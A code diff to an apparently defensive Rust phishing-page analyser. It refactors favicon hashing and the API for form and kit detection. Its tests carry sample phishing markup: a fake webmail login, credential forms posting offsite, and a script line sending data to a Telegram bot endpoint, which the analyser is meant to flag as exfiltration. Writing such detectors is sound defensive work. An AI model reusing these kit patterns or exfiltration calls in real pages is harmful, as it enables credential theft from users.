@@ -7,215 +7,47 @@
 //! markers, field words, parking markers, exfiltration endpoints) is data in
 //! `data/landing.toml`; brands come from kaibo's brand catalog.
 
-use std::sync::OnceLock;
-
+use kaibo_core::landing::{Catalog, catalog};
+use kaibo_model::visit::{Favicon, Field, Form, KitHit, Page, PageBrand};
 use scraper::{ElementRef, Html, Node, Selector};
-use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
 use url::Url;
 
-/// One form on the page (or the password fields outside any form, as a form without action).
-#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
-pub struct Form {
-    /// Where it submits to, resolved against the page URL; `None` when it submits to itself.
-    pub action: Option<String>,
-    pub method: String,
-    pub action_host: Option<String>,
-    /// The form sends its contents to another registrable domain than the page's (or by mail).
-    pub offsite: bool,
-    pub has_password: bool,
-    pub fields: Vec<Field>,
-    /// What the fields ask for (`password`, `email_or_user_id`, `card_number`…).
-    pub asks_for: Vec<String>,
+/// Records the fetched favicon on the page: its hash, and the kits (and so brands) that hash
+/// names.
+pub fn add_favicon(page: &mut Page, url: &str, bytes: &[u8]) {
+    add_favicon_with(catalog(), page, url, bytes);
 }
 
-#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
-pub struct Field {
-    pub name: Option<String>,
-    /// The input type (`text`, `password`, `hidden`…), or `select`/`textarea`.
-    pub kind: String,
-    /// A hidden field's value (kits put the victim's address here), at most 200 characters.
-    pub value: Option<String>,
-    pub asks: Option<String>,
-}
-
-/// A brand the page shows, and where.
-#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
-pub struct PageBrand {
-    pub brand: String,
-    pub name: String,
-    /// `title`, `text`, `image alt`, `kit`, `favicon`.
-    pub seen_in: Vec<String>,
-    /// The page's host is one of the brand's own domains.
-    pub owned: bool,
-}
-
-/// A login kit recognised on the page.
-#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
-pub struct KitHit {
-    pub kit: String,
-    pub name: String,
-    pub brand: String,
-    /// What matched (`title: Active! mail`, `html: /am_bin/`…).
-    pub markers: Vec<String>,
-}
-
-#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
-pub struct Favicon {
-    pub url: String,
-    pub sha256: String,
-    pub bytes: usize,
-}
-
-/// The final page of a visit.
-#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
-pub struct Page {
-    pub url: String,
-    pub title: Option<String>,
-    /// The first 400 characters of the visible text.
-    pub text_excerpt: String,
-    pub forms: Vec<Form>,
-    /// What the page asks the visitor for, over all forms.
-    pub asks_for: Vec<String>,
-    /// Mail addresses the page carries in hidden fields or in its URL (a kit prefilled for the
-    /// recipient).
-    pub addresses: Vec<String>,
-    /// External scripts (`script src`), at most 30.
-    pub scripts: Vec<String>,
-    /// Endpoints that collect what victims type outside the page's server (a Telegram bot…).
-    pub exfiltration: Vec<String>,
-    pub favicon: Option<Favicon>,
-    pub brands: Vec<PageBrand>,
-    pub kits: Vec<KitHit>,
-    /// The marker of a parked or suspended page.
-    pub parked: Option<String>,
-    /// Where the favicon would be fetched from (`link rel=icon`, else `/favicon.ico`).
-    #[serde(skip)]
-    pub favicon_url: Option<Url>,
-}
-
-impl Page {
-    pub fn asks_for_password(&self) -> bool {
-        self.forms.iter().any(|f| f.has_password)
-    }
-
-    /// Records the fetched favicon: its hash, and the kits (and so brands) that hash names.
-    pub fn add_favicon(&mut self, url: &str, bytes: &[u8]) {
-        self.add_favicon_with(catalog(), url, bytes);
-    }
-
-    fn add_favicon_with(&mut self, c: &Catalog, url: &str, bytes: &[u8]) {
-        let sha: String = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect();
-        let k = kaibo_core::knowledge::knowledge();
-        let host = Url::parse(&self.url)
-            .ok()
-            .and_then(|u| u.host_str().map(str::to_ascii_lowercase))
-            .unwrap_or_default();
-        for kit in c.kit.iter().filter(|kit| kit.favicon_sha256.contains(&sha)) {
-            match self.kits.iter_mut().find(|h| h.kit == kit.id) {
-                Some(hit) => push_unique(&mut hit.markers, "favicon"),
-                None => self.kits.push(KitHit {
-                    kit: kit.id.clone(),
-                    name: kit.name.clone(),
-                    brand: kit.brand.clone(),
-                    markers: vec!["favicon".into()],
-                }),
-            }
-            let Some(b) = k.brands.iter().find(|b| b.id == kit.brand) else { continue };
-            match self.brands.iter_mut().find(|pb| pb.brand == b.id) {
-                Some(pb) => push_unique(&mut pb.seen_in, "favicon"),
-                None => self.brands.push(PageBrand {
-                    brand: b.id.clone(),
-                    name: b.names.first().cloned().unwrap_or_default(),
-                    seen_in: vec!["favicon".into()],
-                    owned: b.owns(&host),
-                }),
-            }
+fn add_favicon_with(c: &Catalog, page: &mut Page, url: &str, bytes: &[u8]) {
+    let sha: String = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect();
+    let k = kaibo_core::knowledge::knowledge();
+    let host = Url::parse(&page.url)
+        .ok()
+        .and_then(|u| u.host_str().map(str::to_ascii_lowercase))
+        .unwrap_or_default();
+    for kit in c.kit.iter().filter(|kit| kit.favicon_sha256.contains(&sha)) {
+        match page.kits.iter_mut().find(|h| h.kit == kit.id) {
+            Some(hit) => push_unique(&mut hit.markers, "favicon"),
+            None => page.kits.push(KitHit {
+                kit: kit.id.clone(),
+                name: kit.name.clone(),
+                brand: kit.brand.clone(),
+                markers: vec!["favicon".into()],
+            }),
         }
-        self.favicon = Some(Favicon { url: url.to_string(), sha256: sha, bytes: bytes.len() });
-    }
-}
-
-#[derive(Debug, Deserialize)]
-struct KitDef {
-    id: String,
-    brand: String,
-    name: String,
-    title: Vec<String>,
-    text: Vec<String>,
-    html: Vec<String>,
-    favicon_sha256: Vec<String>,
-}
-
-#[derive(Debug, Deserialize)]
-struct AskDef {
-    id: String,
-    en: String,
-    ja: String,
-    #[serde(rename = "type")]
-    types: Vec<String>,
-    words: Vec<String>,
-}
-
-#[derive(Debug, Deserialize)]
-struct Markers {
-    markers: Vec<String>,
-}
-
-/// The landing-page knowledge (`data/landing.toml`).
-#[derive(Debug, Deserialize)]
-pub struct Catalog {
-    version: u32,
-    kit: Vec<KitDef>,
-    ask: Vec<AskDef>,
-    parked: Markers,
-    exfiltration: Markers,
-    browser: BrowserHosts,
-}
-
-#[derive(Debug, Deserialize)]
-struct BrowserHosts {
-    own_hosts: Vec<String>,
-}
-
-impl Catalog {
-    /// How reports name what a field asks for (`password` → "password" / 「パスワード」).
-    pub fn ask_label(&self, id: &str, ja: bool) -> Option<&str> {
-        self.ask.iter().find(|a| a.id == id).map(|a| if ja { a.ja.as_str() } else { a.en.as_str() })
-    }
-
-    /// Is `host` one of the browser's own services (refused by the render proxy)?
-    pub fn is_browser_service(&self, host: &str) -> bool {
-        self.browser.own_hosts.iter().any(|h| h.eq_ignore_ascii_case(host))
-    }
-
-    pub fn parse(text: &str) -> Result<Catalog, String> {
-        let mut c: Catalog = toml::from_str(text).map_err(|e| format!("landing.toml: {e}"))?;
-        if c.version != 1 {
-            return Err(format!("landing.toml: unknown version {}", c.version));
+        let Some(b) = k.brands.iter().find(|b| b.id == kit.brand) else { continue };
+        match page.brands.iter_mut().find(|pb| pb.brand == b.id) {
+            Some(pb) => push_unique(&mut pb.seen_in, "favicon"),
+            None => page.brands.push(PageBrand {
+                brand: b.id.clone(),
+                name: b.names.first().cloned().unwrap_or_default(),
+                seen_in: vec!["favicon".into()],
+                owned: b.owns(&host),
+            }),
         }
-        let lower = |v: &mut Vec<String>| v.iter_mut().for_each(|s| *s = s.to_lowercase());
-        for k in &mut c.kit {
-            lower(&mut k.title);
-            lower(&mut k.text);
-            lower(&mut k.html);
-            lower(&mut k.favicon_sha256);
-        }
-        for a in &mut c.ask {
-            lower(&mut a.words);
-        }
-        lower(&mut c.parked.markers);
-        lower(&mut c.exfiltration.markers);
-        Ok(c)
     }
-}
-
-/// The catalog compiled into kaibo.
-pub fn catalog() -> &'static Catalog {
-    static CATALOG: OnceLock<Catalog> = OnceLock::new();
-    CATALOG.get_or_init(|| {
-        Catalog::parse(include_str!("../../../data/landing.toml")).expect("data/landing.toml is valid")
-    })
+    page.favicon = Some(Favicon { url: url.to_string(), sha256: sha, bytes: bytes.len() });
 }
 
 const MAX_TEXT: usize = 20_000;
@@ -451,9 +283,9 @@ fn addresses_in(s: &str, out: &mut Vec<String>) {
     }
 }
 
-/// Analyses the final page of a visit. The favicon is added by [`Page::add_favicon`] once
-/// fetched from [`Page::favicon_url`].
-pub fn analyze_page(url: &Url, html: &str) -> Page {
+/// Analyses the final page of a visit: the page, and where its favicon would be fetched from
+/// (`link rel=icon`, else `/favicon.ico`); [`add_favicon`] records it once fetched.
+pub fn analyze_page(url: &Url, html: &str) -> (Page, Option<Url>) {
     let c = catalog();
     let k = kaibo_core::knowledge::knowledge();
     let doc = parse(html);
@@ -535,7 +367,7 @@ pub fn analyze_page(url: &Url, html: &str) -> Page {
         }
     }
 
-    page.favicon_url = favicon_url(&doc, url);
+    let favicon = favicon_url(&doc, url);
 
     // Kits.
     let title_lower = page.title.as_deref().unwrap_or("").to_lowercase();
@@ -607,7 +439,7 @@ pub fn analyze_page(url: &Url, html: &str) -> Page {
         .iter()
         .find(|m| head.contains(m.as_str()) || (m.contains('.') && raw_lower.contains(m.as_str())))
         .cloned();
-    page
+    (page, favicon)
 }
 
 fn make_form(
@@ -643,6 +475,11 @@ fn make_form(
 mod tests {
     use super::*;
 
+    /// The page alone.
+    fn page_at(u: &Url, html: &str) -> Page {
+        analyze_page(u, html).0
+    }
+
     fn url(s: &str) -> Url {
         Url::parse(s).unwrap()
     }
@@ -674,7 +511,7 @@ mod tests {
               <input type="password" name="password">
               <input type="submit" value="ログイン">
             </form><p>Copyright QUALITIA CO., LTD.</p></body></html>"#;
-        let p = analyze_page(&url("https://mail-sync.aorz.ru/am_bin/amlogin"), html);
+        let p = page_at(&url("https://mail-sync.aorz.ru/am_bin/amlogin"), html);
         assert_eq!(p.title.as_deref(), Some("Active! mail ログイン"));
         assert!(p.asks_for_password());
         assert_eq!(p.asks_for, vec!["email_or_user_id", "password"]);
@@ -693,7 +530,7 @@ mod tests {
     #[test]
     fn brand_on_its_own_domain_is_owned() {
         let html = "<title>Sign in to your account</title><body>Microsoft<form><input type=email name=loginfmt><input type=password name=passwd></form>";
-        let p = analyze_page(&url("https://login.microsoftonline.com/"), html);
+        let p = page_at(&url("https://login.microsoftonline.com/"), html);
         let b = p.brands.iter().find(|b| b.brand == "microsoft365").unwrap();
         assert!(b.owned);
         assert!(!p.forms[0].offsite);
@@ -703,7 +540,7 @@ mod tests {
     fn address_in_base64_fragment_and_script_form() {
         // taro@example.jp in base64, and a password field with no form (submitted by script).
         let html = "<body><input type=password id=pw><script>fetch('https://api.telegram.org/bot123/sendMessage')</script>";
-        let p = analyze_page(&url("https://x.example/#dGFyb0BleGFtcGxlLmpw"), html);
+        let p = page_at(&url("https://x.example/#dGFyb0BleGFtcGxlLmpw"), html);
         assert_eq!(p.addresses, vec!["taro@example.jp"]);
         assert!(p.asks_for_password());
         assert_eq!(p.exfiltration, vec!["api.telegram.org/bot"]);
@@ -728,7 +565,7 @@ mod tests {
     fn form_posting_to_a_brand_names_it() {
         let html = r#"<form action="https://login.microsoftonline.com/common/login" method=post>
             <input name=login><input type=password name=passwd></form>"#;
-        let p = analyze_page(&url("https://secure-docs.example.net/"), html);
+        let p = page_at(&url("https://secure-docs.example.net/"), html);
         let b = p.brands.iter().find(|b| b.brand == "microsoft365").unwrap();
         assert!(b.seen_in.iter().any(|s| s == "form action"), "{:?}", b.seen_in);
         assert!(!b.owned);
@@ -736,23 +573,24 @@ mod tests {
 
     #[test]
     fn parked_page() {
-        let p = analyze_page(&url("http://gone.example/"), "<h1>This domain is for sale!</h1>");
+        let p = page_at(&url("http://gone.example/"), "<h1>This domain is for sale!</h1>");
         assert_eq!(p.parked.as_deref(), Some("this domain is for sale"));
     }
 
     #[test]
     fn favicon_is_hashed_and_found() {
         let base = url("https://x.example/a/b");
-        assert_eq!(analyze_page(&base, "<p>").favicon_url.unwrap().as_str(), "https://x.example/favicon.ico");
-        let mut p = analyze_page(&base, r#"<link rel="shortcut icon" href="/i.png"><title>Sign in</title>"#);
-        assert_eq!(p.favicon_url.as_ref().unwrap().as_str(), "https://x.example/i.png");
+        assert_eq!(analyze_page(&base, "<p>").1.unwrap().as_str(), "https://x.example/favicon.ico");
+        let (mut p, icon) =
+            analyze_page(&base, r#"<link rel="shortcut icon" href="/i.png"><title>Sign in</title>"#);
+        assert_eq!(icon.unwrap().as_str(), "https://x.example/i.png");
         // A catalog that knows this icon (sha256 of "abc") as a Roundcube kit's.
         let text = include_str!("../../../data/landing.toml").replace(
             "favicon_sha256 = []\n\n[[kit]]\nid = \"outlook_web_app\"",
             "favicon_sha256 = [\"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\"]\n\n[[kit]]\nid = \"outlook_web_app\"",
         );
         let c = Catalog::parse(&text).unwrap();
-        p.add_favicon_with(&c, "https://x.example/i.png", b"abc");
+        add_favicon_with(&c, &mut p, "https://x.example/i.png", b"abc");
         assert_eq!(
             p.favicon.as_ref().unwrap().sha256,
             "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
@@ -763,8 +601,8 @@ mod tests {
         assert_eq!(b.seen_in, vec!["favicon"]);
         assert!(!b.owned);
         // An unknown icon is hashed, and names nothing.
-        let mut q = analyze_page(&base, "<p>");
-        q.add_favicon("https://x.example/favicon.ico", b"other");
+        let mut q = analyze_page(&base, "<p>").0;
+        add_favicon(&mut q, "https://x.example/favicon.ico", b"other");
         assert!(q.kits.is_empty() && q.favicon.is_some());
     }
 
@@ -772,14 +610,14 @@ mod tests {
     fn hostile_markup_is_bounded() {
         let started = std::time::Instant::now();
         let deep = "<div>".repeat(50_000) + &"<input>".repeat(10_000) + "<form><input type=password></form>";
-        let p = analyze_page(&url("http://x.example/"), &deep);
+        let p = page_at(&url("http://x.example/"), &deep);
         assert!(p.forms.is_empty(), "what lies below the depth cap is not read");
         let wide = "<p>x</p>".repeat(300_000);
-        let p = analyze_page(&url("http://x.example/"), &wide);
+        let p = page_at(&url("http://x.example/"), &wide);
         assert!(p.text_excerpt.starts_with("x x x"));
         assert!(started.elapsed() < std::time::Duration::from_secs(5), "took {:?}", started.elapsed());
         // Void elements and comments do not count as nesting.
         let flat = "<br>".repeat(5_000) + "<!-- c --><form><input type=password></form>";
-        assert!(analyze_page(&url("http://x.example/"), &flat).asks_for_password());
+        assert!(page_at(&url("http://x.example/"), &flat).asks_for_password());
     }
 }
